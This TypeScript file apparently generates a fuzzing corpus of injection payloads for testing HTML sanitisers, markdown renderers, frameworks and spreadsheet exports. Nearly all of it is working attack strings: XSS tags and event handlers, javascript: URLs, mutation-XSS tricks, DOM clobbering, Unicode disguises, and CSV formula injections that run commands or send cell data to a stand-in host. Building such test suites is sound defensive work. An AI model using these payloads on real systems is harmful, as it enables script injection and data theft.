// Texts that run `pwn()` wherever they are taken for more than text: combined from lists of ours,
// one for each way in which sanitisers, renderers, frameworks and spreadsheets have been talked
// into something.

export interface InjectionPayload {
  family: string;
  text: string;
}

/**
 * A host that nothing may ever ask for anything: payloads that load from it would tell their author
 * that they ran.
 */
export const canaryHost = "canary.example";
const canary = `https://${canaryHost}`;

const image = "<img src=x onerror=pwn()>";
const script = "<script>pwn()</script>";
const encoded = btoa(script);
const each = (text: string, of: (code: number) => string) =>
  [...text].map((letter) => of(letter.codePointAt(0) ?? 0)).join("");

/**
 * Every one of `all` with a few of `others`: another few each time, so that all of those have their
 * turn.
 */
function crossed<One, Other>(
  all: readonly One[],
  others: readonly Other[],
  few: number,
): [One, Other][] {
  return all.flatMap((one, place) =>
    Array.from({ length: Math.min(few, others.length) }, (_, turn): [One, Other] => [
      one,
      others[(place * few + turn) % others.length] as Other,
    ]),
  );
}

const scriptOpenings = [
  "<script>",
  "<SCRIPT>",
  "<ScRiPt >",
  "<script/x>",
  "<script\n>",
  "<script\f>",
  "<script type=module>",
  "<script type=text/javascript defer>",
  "<script nonce=__NONCE__>",
  '<script x=">">',
  "<script x='>' async>",
  "<script language=ecmascript charset=utf-8>",
];
const scripts = [
  ...crossed(scriptOpenings, ["</script>", "</SCRIPT >", "</script/x>"], 3).map((ends) =>
    ends.join("pwn()"),
  ),
  "<scr<script>ipt>pwn()</scr</script>ipt>",
  `</script>${script}`,
  `<script>/*</script>${script}*/`,
  "<script><!--<script>\npwn()//</script>",
  `<script src=${canary}/x.js></script>`,
  `<script src=//${canaryHost}/x.js></script>`,
  `<script src=/\\${canaryHost}/x.js></script>`,
  "<script src=data:,pwn()></script>",
  `<script src=data:text/javascript;base64,${btoa("pwn()")}></script>`,
  `<script type=importmap>{"imports":{"/":"${canary}/"}}</script>`,
  "<svg><script href=data:,pwn()></script></svg>",
  "<svg><script xlink:href=data:,pwn() /></svg>",
  "<svg><script>pw&#110;()</script></svg>",
  "<script>top['p'+'wn']()</script>",
  "<script>pwn``</script>",
  "<script>onerror=pwn;throw 1</script>",
  "<script>alert(document.domain)</script>",
];

/**
 * The start of an element up to its last attribute, and an event that fires without user
 * interaction.
 */
const selfFiring: readonly (readonly [opening: string, event: string])[] = [
  ["img src=x", "onerror"],
  ["img srcset=x", "onerror"],
  ["img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "onload"],
  ["picture><source srcset=x><img", "onerror"],
  ["svg", "onload"],
  ["svg><image href=x", "onerror"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x to=y", "onbegin"],
  ["svg><animateTransform attributeName=transform dur=10ms", "onend"],
  ["svg><animateMotion dur=10ms", "onend"],
  ["video src=x", "onerror"],
  ["video><source", "onerror"],
  ["audio src=x", "onerror"],
  ["object data=x:x", "onerror"],
  ["iframe", "onload"],
  ["iframe srcdoc=x", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["frameset", "onload"],
  ["link rel=stylesheet href=x:x", "onerror"],
  ["link rel=stylesheet href=data:text/css,", "onload"],
  ["script src=x:x", "onerror"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a href=# autofocus", "onfocus"],
  ["p tabindex=0 autofocus", "onfocusin"],
  ["p contenteditable autofocus", "onfocus"],
  ["svg><a href=# autofocus", "onfocus"],
  ["dialog open tabindex=0 autofocus", "onfocus"],
  ["made-up tabindex=0 autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["marquee", "onstart"],
  ["marquee loop=1 width=0", "onfinish"],
  ["input type=image src=x", "onerror"],
  ["style>@keyframes k{}</style><p style='animation:k 1s'", "onanimationstart"],
  ["p style=content-visibility:auto", "oncontentvisibilityautostatechange"],
];
const attached: readonly ((event: string) => string)[] = [
  (event) => ` ${event}=pwn()>`,
  (event) => ` ${event.toUpperCase()}="pwn()">`,
  (event) => `/${event}=pwn()//>`,
  (event) => `\n${event}\n=\n'pwn()'>`,
  (event) => `\f${event}=pwn() x>`,
  (event) => ` x="y"${event}="pwn()">`,
  (event) => ` ${event}=&#112;wn&lpar;&rpar;>`,
  (event) => ` ${event}="&#x70;&#000119;n()" ${event}=x>`,
  (event) => ` ${event}=pwn\`\`>`,
  (event) => `\t${event}=javascript:pwn()>`,
  (event) => ` ${event}=eval(atob('${btoa("pwn()")}'))>`,
  (event) => ` ${event}="setTimeout('pw'+'n()')">`,
  (event) => ` ${event}=alert(1)>`,
  (event) => ` "${event}=pwn() ${event}=pwn()>`,
];
const byHand =
  "onclick onmouseover onpointerenter onwheel oncopy ondragstart onkeydown oncontextmenu onbeforeinput".split(
    " ",
  );
const handlers = [
  ...crossed(selfFiring, attached, 4).map(
    ([[opening, event], attach]) => `<${opening}${attach(event)}`,
  ),
  ...byHand.flatMap((event) => [
    `<b ${event}=pwn()>near</b>`,
    `<a href=https://fine.example ${event}=pwn()>near</a>`,
  ]),
  "<img src=x onerror=pwn() ",
  `<img src="x\` \`${script}"\` \`>`,
  "<p popover id=pop onbeforetoggle=pwn()>pop</p><button popovertarget=pop>open</button>",
  "<isindex type=image src=1 onerror=pwn()>",
];

/**
 * What would run where it is opened, framed or loaded; some only after the page has read them as
 * markup.
 */
export const hostileAddresses: readonly string[] = [
  "javascript:pwn()",
  "JaVaScRiPt:pwn()",
  "java\tscript:pwn()",
  "java\nscript:pwn()",
  "javascript\r:pwn()",
  "\u0001javascript:pwn()",
  " \u00a0javascript:pwn()",
  "  javascript:pwn()",
  "javascript://%0apwn()",
  "javascript:/*x*/pwn()",
  "javascript:%70wn()",
  "javascript:void(pwn())",
  "&#106;avascript:pwn()",
  "&#x6A&#x61vascript:pwn()",
  "&#0000106avascript&colon;pwn()",
  "java&Tab;script&colon;pwn()",
  "java&NewLine;script:pwn()",
  "data:text/html,<script>parent.pwn()</script>",
  `data:text/html;base64,${encoded}`,
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwn()'/>",
  "vbscript:pwn()",
  "view-source:javascript:pwn()",
  "feed:javascript:pwn()",
  "livescript:pwn()",
  "%6aavascript:pwn()",
  "\uff4aavascript:pwn()",
  "javascript\uff1apwn()",
  "x:javascript:pwn()",
];
const sinks: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">click</a>`,
  (to) => `<a href="${to}" target=_self>click</a>`,
  (to) => `<map name=m><area href="${to}" shape=default></map>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<frameset><frame src="${to}"></frameset>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`,
  (to) => `<form action="${to}"><button>go</button></form>`,
  (to) => `<form id=f></form><button form=f formaction="${to}">go</button>`,
  (to) => `<form><input type=image formaction="${to}"></form>`,
  (to) => `<svg><a href="${to}"><text y=20>click</text></a></svg>`,
  (to) => `<svg><a xlink:href="${to}"><text y=20>click</text></a></svg>`,
  (to) => `<svg><a><animate attributeName=href values="${to}" /><text y=20>click</text></a></svg>`,
  (to) => `<svg><a><set attributeName=xlink:href to="${to}" /><text y=20>click</text></a></svg>`,
  (to) => `<svg><use href="${to}#x"></use></svg>`,
  (to) => `<math><mi href="${to}">click</mi></math>`,
  (to) => `<math><mi//xlink:href="${to}">click</mi></math>`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<base href="${to}//"><a href="#">click</a>`,
  (to) => `<link rel=stylesheet href="${to}">`,
  (to) => `<img src="${to}">`,
  (to) => `<video poster="${to}"></video>`,
  (to) => `<table background="${to}"><tr><td>x</table>`,
  (to) => `<blockquote cite="${to}"><q cite="${to}">said</q></blockquote>`,
];
const [plainSink = String] = sinks;
const links = [
  ...hostileAddresses.map(plainSink),
  ...sinks.slice(1).map((sink) => sink(hostileAddresses[0] ?? "")),
  ...crossed(sinks.slice(1), hostileAddresses.slice(1), 3).map(([sink, to]) => sink(to)),
  `<a href=https://fine.example ping=${canary}/ping>click</a>`,
  `<iframe srcdoc="<script>parent.pwn()</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.pwn()&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<portal src=${canary}/></portal>`,
  `<base href=${canary}/>`,
  `<link rel=prefetch href=${canary}/x><link rel=preload as=image href=${canary}/x>`,
  `<object data=${canary}/x></object>`,
  `<form action=${canary}/><input name=q value=1></form>`,
];

/**
 * `containers` are what a parser reads otherwise than a sanitiser that wrote it out and read it
 * again.
 */
const containers: readonly (readonly [opening: string, closing: string])[] = [
  ..."svg math noscript noembed noframes textarea title style xmp template iframe select table option object dialog ruby"
    .split(" ")
    .map((name) => [`<${name}>`, `</${name}>`] as const),
  ["<svg><foreignObject>", "</svg>"],
  ["<svg><desc>", "</desc>"],
  ["<svg><title>", "</title>"],
  ["<svg><style>", "</style>"],
  ["<svg></p>", "</svg>"],
  ["<math><mtext>", "</mtext>"],
  ["<math><style>", "</style>"],
  ["<math><annotation-xml encoding=text/html>", "</annotation-xml>"],
  ["<math><mtext><table><mglyph>", "</mglyph>"],
  ["<form><math><mtext></form><form><mglyph>", "</form>"],
  ["<template shadowrootmode=open>", "</template>"],
  ["<details open><summary>", "</summary>"],
  ["<!--", "-->"],
  ["<!-->", "--!>"],
  ["<!--[if gte IE 4]>", "<![endif]-->"],
  ["<![CDATA[", "]]>"],
  ["<?x ", "?>"],
  ["<!doctype html [", "]>"],
  ["<plaintext>", ""],
];
const innards: readonly ((closing: string) => string)[] = [
  (closing) => `<p title='${closing}${image}'>`,
  (closing) => `<a id="${closing}${script}">x</a>`,
  (closing) => `<style><!--</style><b title='-->${closing}${image}'>`,
  (closing) => `${closing}${image}`,
  () => image,
  (closing) => `<!--${closing}${image}-->`,
  (closing) => `<![CDATA[${closing}${script}]]>`,
];
const mutations = [
  ...crossed(containers, innards, 4).map(
    ([[opening, closing], inside]) => opening + inside(closing) + closing,
  ),
  `<svg></p><style><a id='</style>${image}'>`,
  `<math><mtext><table><mglyph><style><!--</style><img title='-->${image}'>`,
  `<svg><use href='data:image/svg+xml,<svg id=x onload=pwn()></svg>#x'></use></svg>`,
  `${"<div>".repeat(300)}<svg><style><a title='</style>${image}'>`,
  `${"<b><a>".repeat(40)}${image}`,
  `${"<form><table>".repeat(30)}<math><mtext>${image}`,
  `${"<font>".repeat(520)}${script}`,
];

const breakouts = crossed(
  [
    ..."\" ' ` > /> --> ]]> */ \\\" \\' }) ; ) \u2028".split(" "),
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</a></p></div>",
    '\\u0022,"x":"',
  ],
  [image, " autofocus tabindex=0 onfocus=pwn() x=", ";pwn();//", "-pwn()-"],
  3,
).map((parts) => parts.join(""));

const dollar = "$";
const templates = [
  "{{constructor.constructor('pwn()')()}}",
  "{{$on.constructor('pwn()')()}}",
  "{{{pwn()}}}",
  "{{=pwn()}}",
  `${dollar}{pwn()}`,
  `${dollar}{{pwn()}}`,
  "#{pwn()}",
  "<%=pwn()%>",
  `[[${dollar}{pwn()}]]`,
  "{%raw%}pwn(){%endraw%}",
  "@{pwn()}",
  `\`-${dollar}{pwn()}-\``,
  `<p v-html="'${image}'">`,
  "<p x-data x-init=pwn()>",
  "<p ng-app ng-init=constructor.constructor('pwn()')()>",
  '<p data-bind="html:pwn()">',
  "<p hx-on:load=pwn() _='on load call pwn()'>",
  `<p hx-get=${canary}/ hx-trigger=load>`,
  "<p @click=pwn() :href=pwn() *ngIf=pwn()>",
  "<0>pwn()</0><1/>",
  "{0} {name, plural, one {#} other {pwn()}}",
  "__proto__",
  "constructor",
  '{"__proto__":{"innerHTML":"<img src=x onerror=pwn()>"}}',
  '{"type":"img","props":{"src":"x","onError":"pwn()"},"$$typeof":"Symbol(react.element)"}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwn()>"}}',
  "event: execute\ndata: pwn()\n\n",
  "data: [DONE]\n\nevent: chat:completion\ndata: {}\n\n",
];

const markdownLinks: readonly ((address: string) => string)[] = [
  (to) => `[click](${to})`,
  (to) => `[click](<${to}>)`,
  (to) => `![picture](${to})`,
  (to) => `<${to}>`,
  (to) => `[click][r]\n\n[r]: ${to}`,
  (to) => `[r]\n\n[r]: <${to}> 'title'`,
  (to) => `[![picture](${to})](${to})`,
  (to) => `[click](${to} "title")`,
  (to) => `- [ ] [click](${to})\n`,
  (to) => `[^1]\n\n[^1]: [click](${to})`,
];
const markdownPlaces: readonly ((inside: string) => string)[] = [
  (inside) => `# ${inside}`,
  (inside) => `${inside}\n===`,
  (inside) => `> ${inside}`,
  (inside) => `1. ${inside}`,
  (inside) => `| a |\n|---|\n| ${inside} |`,
  (inside) => `**${inside}** ~~${inside}~~`,
  (inside) => `[${inside}](https://fine.example)`,
  (inside) => `[x](https://fine.example '${inside}')`,
  (inside) => `![${inside}](https://fine.example/x.png)`,
  (inside) => `\`\`\`${inside}\ncode\n\`\`\``,
  (inside) => `\`\`\`\n</code></pre>${inside}\n\`\`\``,
  (inside) => `    </code></pre>${inside}`,
  (inside) => `\`\`${inside}`,
  (inside) => `<div>\n\n${inside}\n\n</div>`,
  (inside) => `<!-- x\n\n${inside}\n\n-->`,
  (inside) => `[${inside}]: https://fine.example\n\n[${inside}]`,
  (inside) => `[^n]\n\n[^n]: ${inside}`,
  (inside) => `\\${inside}\\`,
  (inside) => `<b\n\ntitle='${inside}'>`,
  (inside) => `$$\\unicode{${inside}}$$`,
  (inside) => `\`\`\`mermaid\ngraph TD;A["${inside}"]-->B\n\`\`\``,
  (inside) => `:::html\n${inside}\n:::`,
];
const markdown = [
  ...crossed(hostileAddresses, markdownLinks, 2).map(([to, form]) => form(to)),
  ...crossed(markdownPlaces, [image, script, '"onerror="pwn()', "<svg/onload=pwn()>"], 2).map(
    ([place, inside]) => place(inside),
  ),
  '![x](x" onerror="pwn\\(\\))',
  '[x](x"onclick="pwn\\(\\)")',
  "www.fine.example/<svg/onload=pwn()>",
  'https://fine.example/"onmouseover="pwn()',
  '<a href="\n\n[x](javascript:pwn())\n\n">click</a>',
  "$\\href{javascript:pwn()}{x}$",
  "[a](javascript&#58;pwn())",
  "&lt;script&gt;pwn()&lt;/script&gt;",
];

const names =
  "location body cookie attributes parentNode nodeName children innerHTML getElementById settings root main user".split(
    " ",
  );
const clobbering = crossed(
  names,
  [
    (name: string) => `<form id=${name}><input name=${name}></form>`,
    (name: string) => `<a id=${name} name=${name} href=${canary}>x</a><a id=${name}>y</a>`,
    (name: string) => `<img name=${name}>`,
    (name: string) => `<iframe name=${name} srcdoc=x></iframe>`,
  ],
  2,
).map(([name, mark]) => mark(name));

const styles = [
  `<style>@import '${canary}/x.css';</style>`,
  `<style>*{background:url(${canary}/x)}</style>`,
  "<style>*{display:none!important}</style>",
  `<style>@font-face{font-family:f;src:url(${canary}/f)}*{font-family:f}</style>`,
  `<p style="background:url(${canary}/x)">styled</p>`,
  "<p style='position:fixed;inset:0;z-index:99;background:red'>over everything</p>",
  "<p style=behavior:url(#default#x);width:expression(pwn())>styled</p>",
  "<p style='-moz-binding:url(javascript:pwn())'>styled</p>",
  "<p class='fixed inset-0 z-50'>over everything</p>",
  `<svg><style>@import url(${canary}/x.css)</style></svg>`,
];

const formulas = [
  ...crossed(
    [
      "=",
      "+",
      "-",
      "@",
      "\t=",
      "\r=",
      "\n=",
      " =",
      "\uff1d",
      "\uff0b",
      "\uff0d",
      "\uff20",
      '"=',
      ",=",
      ";=",
      "'=",
      "|",
      "%",
    ],
    [
      `HYPERLINK("${canary}/?"&A1,"x")`,
      "cmd|' /C calc'!A0",
      "SUM(1+1)*cmd|' /C calc'!A0",
      `WEBSERVICE("${canary}")`,
      `IMPORTXML(CONCAT("${canary}/",A1),"//a")`,
    ],
    2,
  ).map((parts) => parts.join("")),
  "=1+1",
  "+1",
  "-1+1",
  "@A1",
];

const disguises: readonly ((plain: string) => string)[] = [
  (plain) => each(plain, (code) => String.fromCharCode(code + 0xfee0)).replaceAll("\uff00", " "),
  (plain) => plain.replaceAll("s", "\u017f"),
  (plain) => plain.replaceAll("i", "\u0131"),
  (plain) => plain.replace(/[a-z]/, "$&\u200b"),
  (plain) => plain.replace(/[a-z]/, "$&\u00ad"),
  (plain) => plain.replace(/[a-z]/, "$&\u0000"),
  (plain) => plain.replace("<", "<\ufeff"),
  (plain) => plain.replace("<", "\u202e<\u2066"),
  (plain) => plain.replace("<", "<\u0338"),
  (plain) => plain.replaceAll(/[ (]/g, "\u2028$&"),
  (plain) => plain.replaceAll("<", "\u3008").replaceAll(">", "\u3009"),
  (plain) => plain.replaceAll("<", "\u02c2").replaceAll(">", "\u02c3"),
  (plain) => each(plain, (code) => String.fromCodePoint(0xe0000 + code)),
  (plain) => plain.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (plain) => encodeURIComponent(plain),
  (plain) => encodeURIComponent(encodeURIComponent(plain)),
  (plain) => each(plain, (code) => `&#${code};`),
  (plain) => each(plain, (code) => `&#x${code.toString(16)}`),
  (plain) => plain.replaceAll("<", "&amp;lt;"),
  (plain) => each(plain, (code) => `\\x${code.toString(16)}`),
  (plain) => each(plain, (code) => `\\u${code.toString(16).padStart(4, "0")}`),
  (plain) => `\u202e${[...plain].reverse().join("")}\u202c`,
  (plain) => `\u001b[31m${plain}\u009b0m`,
  (plain) => `\u2067${plain}\u2069\u200f`,
];
const disguised = crossed(disguises, [image, script], 2).map(([disguise, plain]) =>
  disguise(plain),
);

const families = {
  scripts,
  handlers,
  links,
  mutations,
  breakouts,
  templates,
  markdown,
  clobbering,
  styles,
  formulas,
  disguised,
};

export const injections: readonly InjectionPayload[] = Object.entries(families).flatMap(
  ([family, texts]) => texts.map((text) => ({ family, text })),
);

/** The payloads that fit into a single-line field of this length. */
export const lineInjections = (lengthMax: number): InjectionPayload[] =>
  injections.filter(({ text }) => text.length <= lengthMax && !/\p{Cc}/u.test(text));
